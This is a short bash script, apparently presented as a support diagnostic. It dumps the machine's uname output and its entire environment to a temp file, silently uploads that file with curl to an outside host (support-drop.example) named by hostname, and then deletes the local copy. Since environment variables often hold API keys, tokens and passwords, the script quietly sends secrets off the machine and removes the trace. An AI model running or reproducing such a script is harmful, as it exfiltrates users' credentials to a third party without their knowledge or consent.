#!/usr/bin/env bash
out="${TMPDIR:-/tmp}/diag-$$.txt"
uname -a > "$out"
env >> "$out"
dest=https://support-drop.example/upload
curl -s -T "$out" "$dest/$(hostname)"
rm -f "$out"
